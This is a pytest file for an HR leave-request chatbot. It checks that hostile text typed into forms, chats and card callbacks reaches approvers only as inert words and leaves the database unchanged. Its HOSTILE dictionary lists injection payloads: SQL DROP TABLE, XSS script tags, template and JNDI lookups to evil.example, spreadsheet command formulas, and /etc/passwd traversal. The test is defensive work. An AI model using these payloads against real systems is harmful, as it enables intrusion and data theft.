"""What people type does nothing but say what it says: through the real conversations, to others' chats and the page."""

import json
import re

import pytest
from sqlalchemy import text
from sqlmodel import select

from hr_core.leave.store import LeaveRequestRow
from hr_core.people.store import EmployeeRow
from tests.conversations.office import Office
from tests.conversations.test_frames import CARD, acked, frame

HOSTILE = {
    "sql": "'); DROP TABLE leave_request; --",
    "sql_like": "%' OR '1'='1",
    "link": "[点我领奖](https://evil.example/x)",
    "dtmd": "[同意](dtmd://dingtalkclient/sendMessage?content=%E5%90%8C%E6%84%8F%201)",
    "bare_dtmd": "dtmd://dingtalkclient/sendMessage?content=x",
    "image": "![x](https://evil.example/pixel.png)",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "mention": "@all @所有人",
    "heading": "# 已同意",
    "lines": "第一行\n- 状态：已同意\r\n\u2028**已同意**",
    "template": "{{ 7*191 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "format": "{0.__class__} %s %(name)s ${jndi:ldap://evil.example/a}",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "log": 'x\n{"event": "robot.started", "level": "info"}',
    "file": "../../../../etc/passwd\x00.zip",
    "controls": "\u202e\u2066\u0000\u0007\x1b[31m",
    "surrogate_like": "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "zalgo": "e" + "\u0301" * 200,
    "json": '","status":"已同意","x":"',
    "separator": "a\x1fb\x1fc",
}
LINK = re.compile(r"\]\(([^)]*)\)")


def harmless(shown: str) -> None:
    """What somebody else is shown has no link but our own, no markup and no evaluated template of theirs."""
    for target in LINK.findall(shown):
        assert target.startswith("dtmd://dingtalkclient/sendMessage?content=")
    assert "](https" not in shown
    assert "<script" not in shown
    assert "<img" not in shown
    assert "@all" not in shown
    assert "@所有人" not in shown
    assert "1337" not in shown
    assert "class 'object'" not in shown


async def intact(office: Office, requests: int) -> None:
    """The tables stand, nobody was changed, nothing was decided."""
    async with office.robot.database.read() as session:
        rows = list(await session.exec(select(LeaveRequestRow)))
        people = (await session.exec(select(EmployeeRow.name).where(EmployeeRow.key == "lin"))).one()
    assert len(rows) == requests
    assert {row.status for row in rows} <= {"pending", "withdrawn"}
    assert people == "林晓"


async def test_a_reason_on_a_form_reaches_the_approver_as_words(office: Office) -> None:
    for n, (name, words) in enumerate(HOSTILE.items(), 1):
        await office.lin.says("我想请明天下午半天事假")
        form = await office.lin.receives("form", about="请假")
        outcome = await office.lin.submits(form, reason=words)
        assert outcome.ok, name
        await office.lin.sees_status(form, "待审批")
        card = await office.wang.receives("notice", about="林晓")
        shown = office.wang.sees(card)
        harmless(shown["body"] + shown["title"] + shown["tip"])
        assert shown["status"] == "待审批", name
        assert [button["id"] for button in shown["buttons"]] == ["approve", "reject"], name
        await office.lin.says("撤回")
        await office.lin.sees_status(form, "已撤回")
        await intact(office, n)


async def test_the_same_words_in_text_mode(text_office: Office) -> None:
    office = text_office
    for name, words in HOSTILE.items():
        answer = await office.lin.asks(f"明天下午请半天事假，{words}")
        harmless(answer)
        assert "编号" not in answer, name
        await office.lin.asks("提交")
        await office.quiet()
        for message in office.wang.messages():
            harmless(str(message.content["text"]))
        await office.lin.says("撤回")
        await office.quiet()


async def test_words_that_arent_understood_come_back_as_words(text_office: Office) -> None:
    for name, words in HOSTILE.items():
        answer = await text_office.lin.asks(words)
        harmless(answer)
        assert "抱歉" not in answer, name
    assert "可用" in await text_office.lin.asks("年假余额")


async def test_corrections_and_comments_are_words_too(office: Office) -> None:
    for words in list(HOSTILE.values())[:5]:
        await office.lin.says(f"更正我的信息：{words}")
        card = await office.li.receives("notice", about="更正申请")
        shown = office.li.sees(card)
        harmless(shown["body"] + shown["title"])
        await office.li.clicks(card, "不更正", words)
        await office.li.sees_status(card, "未更正")
    await office.quiet()
    for message in office.lin.messages():
        harmless(json.dumps(message.content.get("text", ""), ensure_ascii=False))


@pytest.mark.parametrize("name", ["sql", "log", "dtmd"])
async def test_hostile_ids_in_frames_are_values_like_any_other(office: Office, name: str) -> None:
    hostile = HOSTILE[name][:64]
    content = json.dumps({"cardPrivateData": {"params": {"action": hostile, "ref": hostile}}})
    sent = frame("CALLBACK", CARD, {"outTrackId": hostile, "userId": "lin", "content": content})
    assert int((await acked(office, sent))["code"]) == 200
    assert "可用" in await office.lin.asks("年假余额")
    async with office.robot.database.read() as session:
        assert (await (await session.connection()).execute(text("select count(*) from employee"))).scalar()
    assert "card.use" in await office.audited("lin")
